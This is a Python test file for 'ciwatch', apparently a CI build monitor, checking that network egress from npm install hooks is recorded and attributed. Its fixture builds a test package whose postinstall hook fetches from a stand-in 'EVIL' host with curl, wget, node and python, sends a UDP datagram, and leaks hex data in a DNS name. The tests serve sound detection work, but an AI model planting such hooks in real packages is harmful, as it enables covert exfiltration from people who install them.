"""Egress through the proxy, against the test internet: every way a hook reaches the network
is recorded, attributed to the right process and hook, in redirect and in sandbox mode."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ciwatch.analysis.tree import ProcessTree
from ciwatch.record import read_record
from ciwatch.record.events import DnsAnswer, DnsQuery, EgressFlow, NetConnect, NetSend, ProcessStart
from ciwatch.record.vocabulary import TlsHandling
from tests.support.internet import EVIL, EXFIL, UDP_PORT, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

HOOK_PACKAGE = "egress-hook"
HOOK_VERSION = "1.0.0"
DATA_LABEL = "6461746120696e206120646e73206e616d65"  # "data in a dns name", hex


def _postinstall(internet: TestInternet) -> str:
    evil_ip = internet.address_of(EVIL).ipv4
    python_fetch = f"import urllib.request as u; u.urlopen('https://{EVIL}/python').read()"
    node_fetch = f"require('https').get('https://{EVIL}/node', r => r.resume())"
    udp = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hi', ('{EVIL}', {UDP_PORT}))"
    return " ; ".join(
        [
            f"curl -s -o /dev/null https://{EVIL}/curl",
            f"wget -q -O /dev/null https://{EVIL}/wget",
            f"node -e {json.dumps(node_fetch)}",
            f"python3 -c {json.dumps(python_fetch)}",
            f"curl -s -o /dev/null http://{evil_ip}/ip-literal",
            f"getent hosts {DATA_LABEL}.{EXFIL} > /dev/null",
            f"python3 -c {json.dumps(udp)}",
            "true",
        ]
    )


def run_watched(
    internet: TestInternet, tmp_path: Path, args: list[str], cwd: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """``ciwatch run`` as a user would, with the test internet's resolver and CA."""
    env = env or internet.client_env(tmp_path / "home")
    command = [sys.executable, "-m", "ciwatch", "run", "--upstream-ca", str(internet.ca_cert), *args]
    return subprocess.run(
        internet.wrap_with_test_resolver(command), cwd=cwd, env=env, capture_output=True, text=True, timeout=240
    )


def _project(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({"name": "project", "version": "1.0.0", "private": True}))
    return project


@pytest.fixture
def hook_package(internet: TestInternet) -> str:
    internet.publish_npm(
        HOOK_PACKAGE,
        HOOK_VERSION,
        package_json_extra={"scripts": {"postinstall": _postinstall(internet)}},
    )
    return HOOK_PACKAGE


@pytest.mark.parametrize("net", ["redirect", "sandbox"])
def test_every_path_out_of_a_hook_is_recorded_and_attributed(internet, tmp_path, hook_package, net):
    project = _project(tmp_path)
    out = tmp_path / "out"
    done = run_watched(
        internet,
        tmp_path,
        ["--net", net, "--out", str(out), "--", "npm", "install", "--foreground-scripts", hook_package],
        project,
    )
    assert done.returncode == 0, done.stderr
    record = read_record(out)
    tree = ProcessTree(record)
    hook_label = f"postinstall of {HOOK_PACKAGE}@{HOOK_VERSION}"
    assert hook_label in [hook.label for hook in tree.hooks]

    def hook_of(seq: int) -> str | None:
        node = tree.node_at(seq)
        return node.hook.label if node is not None and node.hook is not None else None

    flows = [(item.seq, item.event) for item in record.events if isinstance(item.event, EgressFlow)]
    # npm itself fetched the packument and the tarball from the registry, outside any hook.
    registry_flows = [f for _, f in flows if f.host == "registry.npm.test"]
    assert registry_flows and all(f.status == 200 and f.tls is TlsHandling.INTERCEPTED for f in registry_flows)
    by_path = {f.url.rsplit("/", 1)[-1]: (seq, f) for seq, f in flows if f.url and f.host in (EVIL,)}
    for path in ("curl", "wget", "node", "python"):
        seq, flow = by_path[path]
        assert flow.status == 200 and flow.scheme == "https" and flow.pid is not None, path
        assert hook_of(seq) == hook_label, path
        node = tree.node_at(seq)
        assert node is not None
        assert tree.lineage(node).startswith("npm install > " + hook_label), tree.lineage(node)
    # The IP literal went through the proxy too, by address.
    evil_ip = internet.address_of(EVIL).ipv4
    literal = [(seq, f) for seq, f in flows if f.url and f.url.endswith("/ip-literal")]
    assert literal and literal[0][1].host == evil_ip and hook_of(literal[0][0]) == hook_label
    # The server received exactly what the hooks sent, nothing more.
    assert sorted(r.path for r in internet.requests_to(EVIL)) == ["/curl", "/ip-literal", "/node", "/python", "/wget"]
    # The DNS lookup that carries data: seen by the tracer and answered through ciwatch.
    data_name = f"{DATA_LABEL}.{EXFIL}"
    queries = [(item.seq, item.event) for item in record.events if isinstance(item.event, DnsQuery)]
    assert any(q.name == data_name and hook_of(seq) == hook_label for seq, q in queries)
    answers = [(item.seq, item.event) for item in record.events if isinstance(item.event, DnsAnswer)]
    answered = [a for seq, a in answers if a.name == data_name]
    exfil = internet.address_of(EXFIL)
    assert answered and answered[0].rcode == "NOERROR" and {exfil.ipv4, exfil.ipv6} & set(answered[0].answers)
    assert data_name in internet.dns_queries()
    # The UDP datagram: recorded with its destination, attributed to the hook.
    sends = [(item.seq, item.event) for item in record.events if isinstance(item.event, NetSend)]
    assert any(s.port == UDP_PORT and s.protocol == "udp" and hook_of(seq) == hook_label for seq, s in sends)


def test_report_shows_hosts_per_hook(internet, tmp_path, hook_package):
    project = _project(tmp_path)
    out = tmp_path / "out"
    done = run_watched(internet, tmp_path, ["--out", str(out), "--", "npm", "install", hook_package], project)
    assert done.returncode == 0, done.stderr
    report = subprocess.run(
        [sys.executable, "-m", "ciwatch", "report", "--no-color", str(out)], capture_output=True, text=True
    ).stdout
    section = report.split("Network (hosts by hook)", 1)[1]
    hook_part = section.split(f"postinstall of {HOOK_PACKAGE}@{HOOK_VERSION}:", 1)[1]
    assert EVIL in hook_part.split("outside hooks:", 1)[0]
    assert "registry.npm.test" in section.split("outside hooks:", 1)[1]


def test_env_mode_records_a_client_that_ignores_proxy_variables(internet, tmp_path):
    """Node's https ignores HTTP(S)_PROXY: in env mode its connection bypasses the proxy and
    the tracer records it as such."""
    out = tmp_path / "out"
    script = f"require('https').get('https://{EVIL}/direct', r => r.resume())"
    done = run_watched(internet, tmp_path, ["--net", "env", "--out", str(out), "--", "node", "-e", script], tmp_path)
    assert done.returncode == 0, done.stderr
    record = read_record(out)
    connects = [e for e in (i.event for i in record.events) if isinstance(e, NetConnect) and e.port == 443]
    evil = internet.address_of(EVIL)
    assert connects and connects[0].address in (evil.ipv4, evil.ipv6) and connects[0].via == "direct"
    assert not [e for e in (i.event for i in record.events) if isinstance(e, EgressFlow)]
    # curl honours the variables: its request passes the proxy.
    out2 = tmp_path / "out2"
    done = run_watched(
        internet,
        tmp_path,
        ["--net", "env", "--out", str(out2), "--", "curl", "-s", f"https://{EVIL}/viaproxy"],
        tmp_path,
    )
    assert done.returncode == 0, done.stderr
    flows = [i.event for i in read_record(out2).events if isinstance(i.event, EgressFlow)]
    assert any(f.url == f"https://{EVIL}/viaproxy" and f.status == 200 for f in flows)


def test_client_that_rejects_the_run_ca_is_passed_through(internet, tmp_path):
    """A client with its own roots (here: curl told to trust only the test CA) fails its first
    handshake; the host is then passed through, recorded by SNI, and the build goes on."""
    out = tmp_path / "out"
    ca = str(internet.ca_cert)
    script = (
        f"curl -s -o /dev/null --cacert {ca} https://{EVIL}/pinned1; "
        f"curl -s -o /dev/null --cacert {ca} -w '%{{http_code}}' https://{EVIL}/pinned2"
    )
    done = run_watched(internet, tmp_path, ["--out", str(out), "--", "sh", "-c", script], tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "200"
    flows = [i.event for i in read_record(out).events if isinstance(i.event, EgressFlow)]
    passthrough = [f for f in flows if f.tls is TlsHandling.PASSTHROUGH and f.sni == EVIL]
    assert passthrough, flows
    assert any(f.error and "rejected" in f.error for f in passthrough)
    assert [r.path for r in internet.requests_to(EVIL)] == ["/pinned2"]


def test_loopback_is_left_alone_in_redirect_mode(internet, tmp_path):
    """A build's local service (a database on localhost) keeps working, unproxied."""
    server = subprocess.Popen(
        [sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        line = server.stdout.readline() if server.stdout else ""
        port = int(line.split("port ")[1].split()[0])
        out = tmp_path / "out"
        done = run_watched(
            internet, tmp_path, ["--out", str(out), "--", "curl", "-sf", f"http://127.0.0.1:{port}/"], tmp_path
        )
        assert done.returncode == 0, done.stderr
        record = read_record(out)
        connects = [i.event for i in record.events if isinstance(i.event, NetConnect)]
        assert connects and connects[0].via == "direct" and connects[0].address == "127.0.0.1"
        assert not [i.event for i in record.events if isinstance(i.event, EgressFlow)]
    finally:
        server.kill()
        server.wait()


def test_nothing_is_left_behind_after_a_run(internet, tmp_path):
    out = tmp_path / "out"
    done = run_watched(
        internet, tmp_path, ["--net", "sandbox", "--out", str(out), "--", "curl", "-s", f"https://{EVIL}/x"], tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert _sandbox_link(out) not in _links()
    assert not _run_dirs_with_keys()


def _sandbox_link(out: Path) -> str:
    """The host end of the sandbox's veth is named after the build's root pid."""
    root = next(i.event for i in read_record(out).events if isinstance(i.event, ProcessStart))
    return f"cw{root.pid}h"


def _links() -> set[str]:
    listing = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
    return {line.split(":")[1].strip().split("@")[0] for line in listing.splitlines() if ":" in line}


def _run_dirs_with_keys() -> list[Path]:
    """Private keys in run directories whose ciwatch is gone (a run still going, another
    test's, legitimately holds its CA key for a moment while mitmproxy loads it)."""
    found = []
    for base in (Path("/dev/shm"), Path(os.environ.get("TMPDIR", "/tmp"))):
        for directory in base.glob("ciwatch-run-*"):
            owner = directory.name.split("-")[2]
            if Path(f"/proc/{owner}").exists():
                continue
            for path in directory.rglob("*"):
                if path.is_file() and b"PRIVATE KEY" in path.read_bytes():
                    found.append(path)
    return found


def test_nothing_is_left_behind_when_ciwatch_is_killed(internet, tmp_path):
    """SIGKILL to ciwatch mid-build: the tracer dies with it, the build with the tracer, the
    sandbox's namespace and veth with the build; the record is readable up to that point."""
    out = tmp_path / "out"
    marker = tmp_path / "started"
    env = internet.client_env(tmp_path / "home")
    command = [
        sys.executable, "-m", "ciwatch", "run", "--upstream-ca", str(internet.ca_cert),
        "--net", "sandbox", "--out", str(out), "--",
        "sh", "-c", f"curl -s https://{EVIL}/before; touch {marker}; sleep 300",
    ]  # fmt: skip
    front = subprocess.Popen(internet.wrap_with_test_resolver(command), env=env, cwd=tmp_path)
    try:
        _wait_for(marker.exists)
        record_so_far = read_record(out)
        build_pids = [e.pid for e in (i.event for i in record_so_far.events) if isinstance(e, NetConnect)]
        ciwatch_pids = _descendants_with_cmdline(front.pid, "ciwatch")
        front.kill()  # SIGKILL the unshare wrapper's child tree root: ciwatch's front process
        for pid in ciwatch_pids:
            os.kill(pid, 9)
        front.wait(timeout=30)
        _wait_for(lambda: not any(Path(f"/proc/{pid}").exists() for pid in build_pids + ciwatch_pids))
        link = _sandbox_link(out)
        _wait_for(lambda: link not in _links())
    finally:
        front.kill()
    record = read_record(out)
    assert record.end is None
    assert any(isinstance(i.event, EgressFlow) for i in record.events)
    assert not _run_dirs_with_keys()


def _descendants_with_cmdline(root: int, word: str) -> list[int]:
    """Processes under ``root`` whose command line names ``word`` (never another test's)."""
    parents: dict[int, int] = {}
    cmdlines: dict[int, bytes] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            cmdlines[int(entry.name)] = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        parents[int(entry.name)] = int(stat.rsplit(")", 1)[1].split()[1])

    def under_root(pid: int) -> bool:
        for _ in range(64):
            if pid == root:
                return True
            pid = parents.get(pid, 0)
            if pid <= 1:
                return False
        return False

    return [pid for pid, cmdline in cmdlines.items() if word.encode() in cmdline and under_root(pid) and pid != root]


def _wait_for(condition: object, limit_s: float = 30.0) -> None:
    import time

    assert callable(condition)
    deadline = time.monotonic() + limit_s
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"still not true after {limit_s}s: {condition}")
        time.sleep(0.05)
